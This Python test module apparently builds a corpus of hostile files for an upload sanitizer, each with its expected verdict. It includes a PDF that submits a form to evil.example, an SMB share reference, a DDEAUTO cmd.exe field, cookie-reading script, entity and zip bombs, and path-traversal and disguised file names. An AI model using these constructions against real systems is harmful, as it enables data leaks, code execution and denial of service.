"""The hostile corpus: files that somebody means badly or got wrong, each with its verdict.

`python -m tests.documents.corpus FOLDER` writes them out, to try them by hand. A verdict is the
code of a refusal; "kept" for what comes in as it is; "cleaned" for what comes in without its
dangerous part.
"""

import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path

import pikepdf
import pillow_heif
from PIL import ExifTags, Image

from tests.documents import made, movies


@dataclass(frozen=True)
class Hostile:
    name: str
    verdict: str
    make: Callable[[], bytes]
    slot: str = "letter"


# --- text documents --------------------------------------------------------------------------

RELS = "word/_rels/document.xml.rels"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx(add: dict[str, bytes] | None = None) -> bytes:
    from documents import word

    return made.changed_zip(word.made("Letter", ["We support it."], language="en"), add or {})


def related(kind: str, target: str, mode: str = "External") -> bytes:
    """A document with one more relationship."""
    plain = docx()
    with zipfile.ZipFile(BytesIO(plain)) as packed:
        old = packed.read(RELS).decode()
    new = f'<Relationship Id="x1" Type="{REL}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return docx({RELS: old.replace("</Relationships>", f"{new}</Relationships>").encode()})


def with_field(command: str) -> bytes:
    """A field split over two runs, as word processors write them."""
    half = len(command) // 2
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>'
        for part in (command[:half], command[half:])
    )
    with zipfile.ZipFile(BytesIO(docx())) as packed:
        old = packed.read("word/document.xml").decode()
    return docx(
        {"word/document.xml": old.replace("<w:sectPr", f"<w:p>{runs}</w:p><w:sectPr", 1).encode()}
    )


def entities_in_a_document() -> bytes:
    lines = ['<!ENTITY a0 "ha">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    text = f"<?xml version='1.0'?><!DOCTYPE x [{''.join(lines)}]><x>&a9;</x>"
    return docx({"word/document.xml": text.encode()})


def late_entities() -> bytes:
    """Declared behind so much white space that a look at the head misses it."""
    text = "<?xml version='1.0'?>" + " " * 5000 + '<!DOCTYPE x [<!ENTITY a "a">]><x>&a;</x>'
    return docx({"word/document.xml": text.encode()})


def deep_document() -> bytes:
    """A million elements inside each other."""
    return docx({"word/document.xml": b"<w>" * 1_000_000 + b"</w>" * 1_000_000})


def zip_with(names: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w", method) as packed:
        for name, content in names.items():
            packed.writestr(name, content)
    return out.getvalue()


def locked_zip() -> bytes:
    """The list says that each member is encrypted."""
    content = bytearray(docx())
    for signature, place in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = content.find(signature)
        while at != -1:
            content[at + place] |= 1
            at = content.find(signature, at + 4)
    return bytes(content)


def overlapping_zip() -> bytes:
    """Two entries of one name: one program reads the first, another the last."""
    import warnings

    out = BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(out, "w") as packed, zipfile.ZipFile(BytesIO(docx())) as old:
            for name in old.namelist():
                packed.writestr(name, old.read(name))
            packed.writestr("word/document.xml", b"<x/>")
    return out.getvalue()


# --- PDFs ------------------------------------------------------------------------------------


def submits_a_form(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/")
    )


def opens_another(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.GoToR, F=pikepdf.String(r"\\evil.example\share\a.pdf"), D=pikepdf.Array([0])
    )


def is_a_collection(document: pikepdf.Pdf) -> None:
    document.Root.Collection = pikepdf.Dictionary(View=pikepdf.Name.D)


def plays_media(document: pikepdf.Pdf) -> None:
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 10, 10]
    )
    document.pages[0].obj.Annots = pikepdf.Array([note])


def packed_many_times() -> bytes:
    """One object stream of 400 MB, squeezed twice."""
    import zlib

    inner = zlib.compress(b"\0" * (400 * 2**20), 9)
    squeezed = zlib.compress(inner, 9)
    head = b"%PDF-1.5\n"
    stream = (
        b"1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length "
        + str(len(squeezed)).encode()
        + b">>stream\n"
        + squeezed
        + b"\nendstream\nendobj\n"
    )
    root = b"2 0 obj\n<</Type/Catalog/Pages 3 0 R>>\nendobj\n"
    root += b"3 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
    return head + stream + root + b"trailer<</Root 2 0 R/Size 4>>\n%%EOF\n"


def nests_deeply() -> bytes:
    body = b"1 0 obj\n" + b"[" * 100_000 + b"]" * 100_000 + b"\nendobj\n"
    return b"%PDF-1.4\n" + body + b"trailer<</Root 1 0 R/Size 2>>\n%%EOF\n"


def pages_in_a_circle() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
        b"2 0 obj\n<</Type/Pages/Kids[2 0 R]/Count 1>>\nendobj\n"
        b"trailer<</Root 1 0 R/Size 3>>\n%%EOF\n"
    )


# --- pictures --------------------------------------------------------------------------------


def heic(size: tuple[int, int] = (400, 300)) -> bytes:
    """A phone's photo, with the place where it was taken."""
    pillow_heif.register_heif_opener(thumbnails=False)
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Phonemaker"
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] = (41.0, 52.0, 43.0)
    out = BytesIO()
    Image.new("RGB", size, "white").save(out, "HEIF", exif=exif.tobytes(), quality=40)
    return out.getvalue()


def svg() -> bytes:
    return b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def html() -> bytes:
    return b"<!doctype html><script>alert(document.cookie)</script>"


def png_with_a_page() -> bytes:
    """A good picture with a web page behind it."""
    return made.picture("PNG") + html()


def jpeg_with_a_zip() -> bytes:
    return made.phone_photo() + zip_with({"run.exe": b"MZ"})


def png_text_bomb() -> bytes:
    """A comment of a hundred megabytes, squeezed."""
    import zlib

    plain = made.picture("PNG")
    text = b"Comment\0\0" + zlib.compress(b"a" * (100 * 2**20), 9)
    chunk = struct.pack(">I", len(text)) + b"zTXt" + text
    chunk += struct.pack(">I", zlib.crc32(b"zTXt" + text))
    return plain[:33] + chunk + plain[33:]


def repeated(content: bytes, times: int) -> bytes:
    return content * times


CORPUS = [
    # what is no file of that kind
    Hostile("empty.pdf", "empty", lambda: b""),
    Hostile("empty.docx", "empty", lambda: b""),
    Hostile("run.exe", "wrong_type", lambda: b"MZ\x90\0"),
    Hostile("noending", "wrong_type", made.pdf),
    Hostile("letter.pdf.exe", "wrong_type", made.pdf),
    Hostile("letter\u202efdp.exe", "wrong_type", made.pdf),
    Hostile("letter\u202egpj.pdf", "kept", made.pdf),  # harmless once its name is cleaned
    Hostile("page.html", "wrong_type", html),
    Hostile("picture.svg", "wrong_type", svg),
    Hostile("macro.docm", "wrong_type", docx),
    Hostile("old.doc", "wrong_type", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512),
    Hostile("page.png", "not_what_it_says", html),
    Hostile("vector.png", "not_what_it_says", svg),
    Hostile("vector.jpg", "not_what_it_says", svg),
    Hostile("program.pdf", "not_what_it_says", lambda: b"MZ\x90\0" + b"\0" * 100),
    Hostile("word.pdf", "not_what_it_says", docx),
    Hostile("photo.jpg", "not_what_it_says", lambda: made.picture("PNG")),
    Hostile("gif.png", "not_what_it_says", lambda: b"GIF89a/*\x01\0*/=1;alert(1)"),
    Hostile("late.pdf", "not_what_it_says", lambda: b" " * 1024 + made.pdf()),
    # PDFs
    Hostile("script.pdf", "cleaned", lambda: made.pdf(change=made.runs_on_opening)),
    Hostile("named-script.pdf", "cleaned", lambda: made.pdf(change=made.runs_by_name)),
    Hostile("page-script.pdf", "cleaned", lambda: made.pdf(change=made.runs_on_a_page)),
    Hostile("launch.pdf", "cleaned", lambda: made.pdf(change=made.runs_from_a_link)),
    Hostile("submit.pdf", "cleaned", lambda: made.pdf(change=submits_a_form)),
    Hostile("share.pdf", "cleaned", lambda: made.pdf(change=opens_another)),
    Hostile("attached.pdf", "files_inside", lambda: made.pdf(change=made.holds_a_file)),
    Hostile("note.pdf", "files_inside", lambda: made.pdf(change=made.holds_a_file_in_a_note)),
    Hostile("collection.pdf", "files_inside", lambda: made.pdf(change=is_a_collection)),
    Hostile("media.pdf", "files_inside", lambda: made.pdf(change=plays_media)),
    Hostile("xfa.pdf", "form", lambda: made.pdf(change=made.is_a_dynamic_form)),
    Hostile("locked.pdf", "encrypted", made.locked_pdf),
    Hostile("long.pdf", "too_many_pages", lambda: made.pdf(pages=31)),
    Hostile("web.pdf", "damaged", lambda: b"%PDF-1.4\n" + html() + b"%%EOF"),
    Hostile("zip-behind.pdf", "damaged", lambda: made.pdf() + zip_with({"a.exe": b"MZ"})),
    Hostile("cut.pdf", "damaged", lambda: made.letter_by_libreoffice()[:9000]),
    Hostile("squeezed.pdf", "damaged", packed_many_times),
    Hostile("deep.pdf", "damaged", nests_deeply),
    Hostile("circle.pdf", "damaged", pages_in_a_circle),
    # text documents
    Hostile("macros.docx", "macros", lambda: docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    Hostile(
        "template.docx",
        "reaches_out",
        lambda: related("attachedTemplate", "http://e.example/a.dotm"),
    ),
    Hostile("picture.docx", "reaches_out", lambda: related("image", "http://e.example/a.png")),
    Hostile("share.docx", "reaches_out", lambda: related("hyperlink", "file://e.example/share")),
    Hostile("script.docx", "reaches_out", lambda: related("hyperlink", "javascript:alert(1)")),
    Hostile("link.docx", "kept", lambda: related("hyperlink", "https://hospital.example/")),
    Hostile(
        "dde.docx", "reaches_out", lambda: with_field(r' DDEAUTO c:\\windows\\cmd.exe "/k calc" ')
    ),
    Hostile(
        "include.docx", "reaches_out", lambda: with_field(' INCLUDEPICTURE "http://e.example/a" ')
    ),
    Hostile("object.docx", "files_inside", lambda: docx({"word/embeddings/oleObject1.bin": b"MZ"})),
    Hostile("activex.docx", "files_inside", lambda: docx({"word/activeX/activeX1.xml": b"<a/>"})),
    Hostile("entities.docx", "damaged", entities_in_a_document),
    Hostile("late-entities.docx", "damaged", late_entities),
    Hostile("deep.docx", "too_large_inside", deep_document),
    Hostile("locked.docx", "encrypted", locked_zip),
    Hostile("twice.docx", "damaged", overlapping_zip),
    Hostile("climbs.docx", "damaged", lambda: docx({"../../evil.xml": b"<a/>"})),
    Hostile("zip.docx", "damaged", lambda: zip_with({"a.txt": b"hello"})),
    Hostile(
        "bomb.docx", "too_large_inside", lambda: docx({"word/media/a.png": b"\0" * (80 * 2**20)})
    ),
    Hostile("workbook.docx", "damaged", made.workbook),
    # pictures
    Hostile("place.heic", "cleaned", heic),
    Hostile("junk.heic", "damaged", lambda: made.HEIC),
    Hostile("cut.heic", "damaged", lambda: heic()[:450]),
    Hostile("place.jpg", "cleaned", made.phone_photo),
    Hostile("zip-behind.jpg", "cleaned", jpeg_with_a_zip),
    Hostile("page-behind.png", "cleaned", png_with_a_page),
    Hostile("cut.jpg", "damaged", lambda: made.phone_photo()[:2500]),
    Hostile("huge.png", "too_many_pixels", made.huge_png),
    Hostile("text-bomb.png", "damaged", png_text_bomb),
    # tables
    Hostile("bomb.xlsx", "too_large_inside", made.zip_bomb, "data"),
    Hostile("lies.xlsx", "damaged", made.lying_bomb, "data"),
    Hostile("entities.xlsx", "damaged", made.entity_bomb, "data"),
    Hostile("utf16.xlsx", "damaged", made.entity_bomb_in_utf16, "data"),
    Hostile(
        "macros.xlsx",
        "macros",
        lambda: made.changed_zip(made.workbook(), {"xl/vbaProject.bin": b"x"}),
        "data",
    ),
    Hostile("nul.csv", "damaged", lambda: b"a,b\n1,\0\n", "data"),
    Hostile("wide.csv", "too_many_columns", lambda: b"," * 200 + b"\n", "data"),
    Hostile("page.csv", "damaged", html, "data"),
    Hostile("program.csv", "damaged", lambda: b"MZ\x90\0\x03" + b"\0" * 500, "data"),
    # films
    Hostile(
        "junk.mp4",
        "damaged",
        lambda: movies.box(b"ftyp", b"isom\0\0\0\0isom") + b"junk" * 500,
        "video",
    ),
    Hostile("page.mp4", "not_what_it_says", html, "video"),
    Hostile("photo.mp4", "not_what_it_says", heic, "video"),
    Hostile("endless.mp4", "damaged", movies.endless_boxes, "video"),
    Hostile("circle.mov", "damaged", movies.box_of_no_size, "video"),
    Hostile("silent.mp4", "no_picture", movies.sound_only, "video"),
    Hostile("long.mp4", "too_long", lambda: movies.mp4(seconds=700), "video"),
    Hostile("strange.mov", "codec", lambda: movies.mp4(codec=b"apcn", brand=b"qt  "), "video"),
    Hostile("web-behind.mp4", "damaged", lambda: movies.mp4() + html(), "video"),
    Hostile("junk.webm", "damaged", lambda: b"\x1a\x45\xdf\xa3" + b"\xff" * 100, "video"),
    Hostile("matroska.webm", "damaged", lambda: movies.webm(doctype=b"matroska"), "video"),
    Hostile("deep.webm", "damaged", movies.deep_webm, "video"),
    Hostile(
        "captions.vtt",
        "damaged",
        lambda: b"WEBVTT\n\n00:00.000 --> 00:01.000\n<script>alert(1)</script>\n\0",
        "captions",
    ),
    Hostile("page.vtt", "damaged", html, "captions"),
]


def write(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for number, one in enumerate(CORPUS):
        (folder / f"{number:02d}-{one.verdict}-{one.name}").write_bytes(one.make())


if __name__ == "__main__":
    write(Path(sys.argv[1]))
